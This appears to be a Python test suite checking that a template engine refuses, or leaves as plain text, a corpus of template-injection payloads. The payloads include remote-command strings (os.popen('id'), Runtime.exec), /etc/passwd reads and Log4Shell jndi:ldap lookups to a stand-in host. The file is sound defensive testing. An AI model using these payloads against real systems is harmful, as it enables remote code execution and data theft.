"""Payloads that other template languages would run: here each is refused, or is plain text."""

import re
from contextlib import nullcontext
from itertools import product
from typing import Any

import pytest

from skan_receiver.delivery.templates import (
    DIALECTS,
    BodyTemplate,
    HeadersTemplate,
    TemplateRefused,
    TextTemplate,
    Translation,
    UrlTemplate,
    macros_for,
    translate,
)

ALLOWED = macros_for("decoded")
SECRETS = {"token": "hush-hush"}
VALUES = {"country": "US", "fine_value": 42, "meaning": {"label": "gold"}}

# How Jinja, Twig, Liquid, Handlebars, FreeMarker, Velocity, Thymeleaf, ERB, EJS, Razor, Pug,
# Smarty, Mako, Tornado, Spring's EL, str.format and string.Template mark what is to be evaluated.
WRAPPERS = [
    "{{%s}}", "{{ %s }}", "{{{%s}}}", "{{=%s}}", "{%% %s %%}", "{%s}", "{ %s }", "${%s}",
    "${{%s}}", "#{%s}", "*{%s}", "@{%s}", "~{%s}", "$%s", "<%%= %s %%>", "<%%%s%%>", "@(%s)",
    "[[%s]]", "[(%s)]", "#set($x=%s)$x", "<#assign x=%s>${x}", "{php}%s{/php}", "{if %s}{/if}",
    "__${%s}__::.x", "<script>%s</script>", "{!%s!}", "{#%s#}", "{@%s}", "{:%s:}", "%%{%s}",
    "`%s`", "{0.%s}",
]  # fmt: skip
EXPRESSIONS = [
    "7*7",
    "country.__class__.__mro__[1].__subclasses__()",
    "config.items()",
    "self.__init__.__globals__.os.popen('id').read()",
    "country|upper",
    "country?upper_case",
    "'x'*1000000000",
    "secret:token.__str__",
    'T(java.lang.Runtime).getRuntime().exec("id")',
    '"freemarker.template.utility.Execute"?new()("id")',
]
WHOLE = [
    "{country.__class__}",
    "{country.__init__.__globals__[SECRETS]}",
    "{country!r}",
    "{country:>1000000000}",
    "{country[0]}",
    "{0}",
    "{}",
    "{self}",
    "{secrets}",
    "{values}",
    "{secret:../token}",
    "{secret:token:token}",
    "{secret: token}",
    "{SECRET:token}",
    "{{secret:token}}",
    "{{country}}",
    "%(country)s",
    "%s%s%s%n",
    "$country $$country $$",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% raw %}{{country}}{% endraw %}",
    "{{request.application.__globals__}}",
    "{{lipsum.__globals__.os.popen('id').read()}}",
    "{{cycler.__init__.__globals__.os}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}",
    "{{#with 's' as |string|}}{{/with}}",
    "{{constructor.constructor('return process')()}}",
    "#{root.process.mainModule.require('child_process')}",
    "<%= system('id') %>",
    "<%= File.open('/etc/passwd').read %>",
    "${T(java.lang.System).getenv()}",
    "${''.getClass().forName('java.lang.Runtime')}",
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "<#list 1..1000000000 as x>x</#list>",
    "<#import '/etc/passwd' as x>",
    "#foreach($x in [1..1000000000])x#end",
    "{system('id')}",
    "{fetch file='/etc/passwd'}",
    "${{<%[%'\"}}%\\",
    "{{7*'7'}}[[5*5]]",
    "{country}{country.x}",
    "{country,fine_value}",
    "{?country.__class__}",
    "{&secret:token}",
    "{+secret:token}",
    "{country\u200b}",
    "{ｃｏｕｎｔｒｙ}",
    "{cоuntry}",  # with a Cyrillic о
]
PAYLOADS = [wrap % inside for wrap, inside in product(WRAPPERS, EXPRESSIONS)] + WHOLE


def plain(payload: str) -> str:
    """What the grammar makes of a text without macros: doubled braces are braces, no more."""
    return payload.replace("{{", "{").replace("}}", "}")


def test_the_corpus_is_one() -> None:
    """Two hundred that differ, at the least."""
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_refused_or_stays_text(payload: str) -> None:
    """Nothing is evaluated: what is not refused comes out as it went in."""
    for template in (TextTemplate, BodyTemplate):
        try:
            expanded = template.parse(payload, ALLOWED).expand(VALUES, SECRETS)
        except TemplateRefused:
            continue
        assert expanded == plain(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_a_url_is_refused_or_stays_text(payload: str) -> None:
    """In the path and in the query; braces never pass."""
    for text in (f"https://p.example/{payload}", f"https://p.example/?x={payload}"):
        try:
            expanded = UrlTemplate.parse(text, ALLOWED).expand(VALUES, SECRETS)
        except TemplateRefused:
            continue
        assert expanded == text
        assert not set("{}") & set(payload)


def test_a_payload_is_no_name() -> None:
    """Of a header, a body's member, or a query's: those are written out."""
    for payload, expand in product(PAYLOADS, (header, member)):
        try:
            expanded = expand(payload)
        except TemplateRefused:
            continue
        assert expanded == {payload: "x"}
        assert not set("{}") & set(payload)


def header(name: str) -> Any:
    return HeadersTemplate.parse({name: "x"}, ALLOWED).expand(VALUES, SECRETS)


def member(name: str) -> Any:
    return BodyTemplate.parse({name: "x"}, ALLOWED).expand(VALUES, SECRETS)


def test_a_payload_as_a_value_is_that_text() -> None:
    """Campaigns are named by people, and Apple's JSON comes from the whole world."""
    body = BodyTemplate.parse({"a": "{country}", "b": "<{country}>"}, ALLOWED)
    for payload in PAYLOADS:
        expanded = body.expand({"country": payload}, SECRETS)
        assert expanded == {"a": payload, "b": f"<{payload}>"}


def test_no_dialect_brings_an_expression_in() -> None:
    """A vendor's template becomes names of ours and plain text, or is refused."""
    for payload, dialect in product(PAYLOADS, DIALECTS):
        try:
            translated = translate(payload, dialect)
        except TemplateRefused:
            continue
        with nullcontext() if not refused_later(translated) else pytest.raises(TemplateRefused):
            expanded = TextTemplate.parse(translated.text, ALLOWED).expand({}, {})
            assert expanded == re.sub(r"\{\w+\}", "", translated.text)


def refused_later(translated: Translation) -> bool:
    """Whether it holds names we lack, which stand there until somebody takes them out."""
    return bool(translated.unknown or translated.personal)
